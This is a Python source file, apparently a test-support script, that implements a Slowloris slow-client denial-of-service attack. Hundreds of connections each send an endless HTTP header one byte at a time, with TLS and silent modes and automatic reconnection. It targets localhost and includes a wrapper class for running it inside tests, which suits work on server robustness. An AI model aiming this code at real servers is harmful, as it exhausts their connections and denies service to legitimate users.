"""Slow clients, as an attacker runs them: one process holding many connections that each
send a request a byte at a time (or nothing at all), coming back whenever they are dropped.

Run as a script (so that the attack does not share a process, or a GIL, with what it
attacks)::

    python support/slowloris.py --port 9713 --connections 800 --every 1 [--tls] [--silent]

``--tls`` completes the TLS handshake first, then trickles the request inside it;
``--silent`` connects and sends nothing (over TLS: not even a handshake). It runs until
SIGTERM or ``--seconds``, then prints one JSON line: connections opened, how many the
server dropped, and the most held at once. `Attack` starts and stops it from Python.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import signal
import ssl
import subprocess
import sys
import time
from pathlib import Path

#: The request each slow client sends, a byte at a time (it never ends: a header line
#: that grows until the server gives up).
REQUEST = b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 100_000


class _Stats:
    def __init__(self) -> None:
        self.opened = self.dropped = self.held = self.most_held = self.refused = 0


async def _client(port: int, tls: ssl.SSLContext | None, every_s: float, silent: bool,
                  stats: _Stats, stop: asyncio.Event) -> None:  # fmt: skip
    while not stop.is_set():
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", port, ssl=None if silent else tls), 10
            )
        except (OSError, asyncio.TimeoutError, ssl.SSLError):
            stats.refused += 1
            await asyncio.sleep(every_s)
            continue
        stats.opened += 1
        stats.held += 1
        stats.most_held = max(stats.most_held, stats.held)
        try:
            sent = 0
            while not stop.is_set():
                if silent:
                    if await _closed(reader, every_s):
                        break
                    continue
                writer.write(REQUEST[sent : sent + 1])
                sent += 1
                await writer.drain()
                if await _closed(reader, every_s):
                    break
            else:
                return
            stats.dropped += 1
        except (OSError, ssl.SSLError, asyncio.IncompleteReadError):
            stats.dropped += 1
        finally:
            stats.held -= 1
            writer.transport.abort()


async def _closed(reader: asyncio.StreamReader, wait_s: float) -> bool:
    """Whether the server closed the connection within ``wait_s`` (an end of stream, or
    whatever it answered: a slow client has nothing to say to an answer)."""
    try:
        await asyncio.wait_for(reader.read(1), wait_s)
    except asyncio.TimeoutError:
        return False
    return True


async def _attack(args: argparse.Namespace) -> _Stats:
    stats, stop = _Stats(), asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    tls = None
    if args.tls:
        tls = ssl.create_default_context()
        tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    clients = []
    for _ in range(args.connections):  # a ramp, as an attacker's connects come
        clients.append(loop.create_task(_client(args.port, tls, args.every, args.silent,
                                                stats, stop)))  # fmt: skip
        await asyncio.sleep(0)
    print("READY", flush=True)
    with contextlib.suppress(asyncio.TimeoutError):
        await asyncio.wait_for(stop.wait(), args.seconds)
    stop.set()
    for task in clients:
        task.cancel()
    await asyncio.gather(*clients, return_exceptions=True)
    return stats


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=100)
    parser.add_argument("--every", type=float, default=1.0, help="seconds between bytes")
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--silent", action="store_true")
    parser.add_argument("--seconds", type=float, default=3600.0)
    args = parser.parse_args(argv)
    stats = asyncio.run(_attack(args))
    print(json.dumps({"opened": stats.opened, "dropped": stats.dropped,
                      "most_held": stats.most_held, "refused": stats.refused}))  # fmt: skip
    return 0


class Attack:
    """The script in a process of its own, for a ``with`` block: started when entered (it
    has opened its first connections when `__enter__` returns), stopped when left; then
    `result` holds its figures."""

    def __init__(self, port: int, connections: int, *, every_s: float = 1.0, tls: bool = False,
                 silent: bool = False) -> None:  # fmt: skip
        self.argv = [sys.executable, str(Path(__file__).resolve()), "--port", str(port),
                     "--connections", str(connections), "--every", str(every_s)]  # fmt: skip
        self.argv += ["--tls"] * tls + ["--silent"] * silent
        self.result: dict[str, int] = {}
        self.proc: subprocess.Popen | None = None

    def __enter__(self) -> Attack:
        self.proc = subprocess.Popen(self.argv, stdout=subprocess.PIPE, text=True)
        assert self.proc.stdout is not None
        line = self.proc.stdout.readline()
        if line.strip() != "READY":
            self.proc.kill()
            raise RuntimeError(f"the attack did not start: {line!r}")
        time.sleep(0.5)  # its connections under way
        return self

    def __exit__(self, *exc: object) -> None:
        assert self.proc is not None and self.proc.stdout is not None
        self.proc.send_signal(signal.SIGTERM)
        try:
            out, _ = self.proc.communicate(timeout=20)
            self.result = json.loads(out.strip().splitlines()[-1]) if out.strip() else {}
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()


if __name__ == "__main__":
    sys.exit(main())
